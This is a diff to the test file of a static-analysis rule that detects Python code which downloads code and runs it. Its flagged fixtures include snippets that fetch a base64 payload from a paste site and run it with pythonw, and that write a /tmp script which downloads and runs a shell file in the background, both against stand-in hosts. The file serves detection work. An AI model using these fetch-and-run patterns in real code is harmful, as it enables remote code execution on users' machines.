@@ -3,6 +3,8 @@ import rule from './py-download-exec.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'a generated config file, then a tool run on it', file: 'gen.py', code: `import subprocess\nwith open('build.cfg', 'w') as f:\n    f.write("[build]\\n")\n    f.write("url = https://example.org/pkg\\n")\nsubprocess.run(["make", "-f", "build.cfg"])\n` },
+    { name: 'a script written out that downloads nothing', file: 'w.py', code: `import subprocess\nwith open('/tmp/job.py', 'w') as f:\n    f.write("import subprocess\\nsubprocess.run(['ls'])\\n")\nsubprocess.call("python3 /tmp/job.py", shell=True)\n` },
     { name: 'a helper returns downloaded JSON that is saved; nothing runs it', file: 'cache.py', code: `import json, requests\ndef fetch():\n    return requests.get('https://api.example.org/x').json()\ndef save(data):\n    with open('cache.json', 'w') as f:\n        f.write(json.dumps(data))\nsave(fetch())\n` },
     { name: 'downloaded page saved as .html and opened in the browser', file: 'http.py', code: `import os, socket, subprocess\ndef req(host, display=True):\n    sock = socket.socket()\n    ans = sock.recv(4096)\n    if display:\n        file = get_temp_file(autoext=".html")\n        with open(file, "wb") as fd:\n            fd.write(ans)\n        os.startfile(file)\n        subprocess.Popen(["xdg-open", file])\n` },
     { name: 'downloaded JSON piped into jq (not an interpreter of code)', file: 'jq.py', code: `import requests, subprocess\nr = requests.get("https://api.example.org/items")\np = subprocess.Popen(["jq", "."], stdin=subprocess.PIPE)\np.communicate(r.content)\n` },
@@ -95,6 +97,12 @@ ruleTest(rule, {
       file: 'poller.py',
       code: `import base64, os, requests, subprocess\ndef fetch():\n    r = requests.get('https://paste.example.net/raw')\n    code = base64.b64decode(r.text).decode()\n    return code\ndef save(code):\n    path = os.getcwd() + '/Shipper.py'\n    with open(path, 'w') as f:\n        f.write(code)\n    return path\ndef run(p):\n    subprocess.call(['pythonw', p])\ndef main():\n    c = fetch()\n    p = save(c)\n    run(p)\n`,
       findings: [{ line: 12, severity: 'critical', confidence: 'high', message: /Runs the file it downloaded \(written in save\(\), started in run\(\)/ }],
+    },
+    {
+      name: 'download-and-run script written line by line to /tmp and started in the background',
+      file: 'color.py',
+      code: `import subprocess\ndef check():\n    with open('/tmp/file.py', 'w') as f:\n        f.write("import subprocess\\nfrom urllib import request\\n")\n        f.write("request.urlretrieve('https://dl.example-host.net/s/a.sh', '/tmp/a.sh')\\n")\n        f.write("subprocess.call('bash /tmp/a.sh', shell=True)\\n")\n    subprocess.call("python3 /tmp/file.py &", shell=True)\n`,
+      findings: [{ line: 7, message: /Writes a script that downloads and runs code to \/tmp\/file\.py \(from line 4\), then starts it/ }],
     },
   ],
 });
